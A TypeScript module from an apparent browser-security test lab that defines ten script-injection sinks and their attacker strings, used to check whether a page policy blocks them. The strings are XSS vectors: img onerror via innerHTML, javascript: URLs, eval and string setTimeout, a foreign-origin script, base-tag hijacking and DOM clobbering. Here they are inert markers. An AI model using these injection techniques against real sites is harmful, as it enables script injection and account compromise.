// The injection sinks of "Can a script get in?": each takes a typical attacker's string the way a
// real app's code would hand one over, on the lab's sink page (lab-sinks.html, src/lab-sinks.ts),
// once served with the page policy and once without. What the string does when it runs is call
// `__authbenchSinkRan(id)`, which the page defines: that call is how the page knows it ran.

export const sinkIds = [
  'inner-html',
  'insert-adjacent-html',
  'script-text',
  'javascript-url',
  'eval',
  'new-function',
  'set-timeout',
  'foreign-script',
  'base',
  'dom-clobbering',
] as const;
export type SinkId = (typeof sinkIds)[number];

/** The global the attacker's strings call when they run. */
export const ranHook = '__authbenchSinkRan';
/** The global the DOM-clobbering sink's gadget reads its settings from. */
const settingsGlobal = 'authbenchSinkSettings';

export interface Sink {
  id: SinkId;
  /** The sink, in words. */
  label: string;
  /** The attacker's string, for an attacker's site at `attacker` (an origin). */
  attack: (attacker: string) => string;
  /** Hands the string over as the app's code would; a throw is the browser refusing it. */
  feed: (attack: string, stage: HTMLElement) => void;
}

const ran = (id: SinkId) => `${ranHook}('${id}')`;

function appendScript(src: string) {
  const script = document.createElement('script');
  script.src = src;
  document.body.append(script);
}

export const sinks: readonly Sink[] = [
  {
    id: 'inner-html',
    label: 'innerHTML, an image with an inline handler',
    attack: () => `<img src=x onerror="${ran('inner-html')}">`,
    feed: (attack, stage) => {
      stage.innerHTML = attack;
    },
  },
  {
    id: 'insert-adjacent-html',
    label: 'insertAdjacentHTML, an image with an inline handler',
    attack: () => `<img src=x onerror="${ran('insert-adjacent-html')}">`,
    feed: (attack, stage) => stage.insertAdjacentHTML('beforeend', attack),
  },
  {
    id: 'script-text',
    label: 'a <script> element with inline text',
    attack: () => ran('script-text'),
    feed: (attack) => {
      const script = document.createElement('script');
      script.textContent = attack;
      document.body.append(script);
    },
  },
  {
    id: 'javascript-url',
    label: 'a javascript: URL in a link, followed',
    attack: () => `javascript:void ${ran('javascript-url')}`,
    feed: (attack, stage) => {
      const link = document.createElement('a');
      link.href = attack;
      link.textContent = 'a prize';
      stage.append(link);
      link.click();
    },
  },
  {
    id: 'eval',
    label: 'eval',
    attack: () => ran('eval'),
    // Indirect, in the global scope, as a library's "evaluate this expression" would.
    feed: (attack) => (0, eval)(attack) as unknown,
  },
  {
    id: 'new-function',
    label: 'new Function',
    attack: () => ran('new-function'),
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the sink under test
    feed: (attack) => (new Function(attack) as () => unknown)(),
  },
  {
    id: 'set-timeout',
    label: 'setTimeout with a string',
    attack: () => ran('set-timeout'),
    feed: (attack) => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the sink under test: a string, not a function
      window.setTimeout(attack, 0);
    },
  },
  {
    id: 'foreign-script',
    label: 'a <script src> from another origin (the attacker’s site)',
    attack: (attacker) => `${attacker}/sink.js?sink=foreign-script`,
    feed: (attack) => appendScript(attack),
  },
  {
    id: 'base',
    label: 'a <base> that points the page’s relative URLs at the attacker’s site, then a relative <script src>',
    attack: (attacker) => `${attacker}/`,
    feed: (attack) => {
      const base = document.createElement('base');
      base.href = attack;
      document.head.prepend(base);
      // The page's own code, loading its own script by a relative URL.
      appendScript('sink.js?sink=base');
    },
  },
  {
    id: 'dom-clobbering',
    label: 'DOM clobbering: script-free HTML whose form stands in for a global the page’s code trusts',
    attack: (attacker) => `<form id="${settingsGlobal}"><input name="scriptUrl" value="${attacker}/sink.js?sink=dom-clobbering"></form>`,
    feed: (attack, stage) => {
      stage.innerHTML = attack;
      // The page's own code: a widget that loads a script named in its settings, if any were set.
      const settings = Reflect.get(window, settingsGlobal) as { scriptUrl?: { value?: unknown } } | undefined;
      const url = settings?.scriptUrl?.value;
      if (typeof url === 'string') appendScript(url);
    },
  },
];

export const isSinkId = (value: unknown): value is SinkId => typeof value === 'string' && (sinkIds as readonly string[]).includes(value);
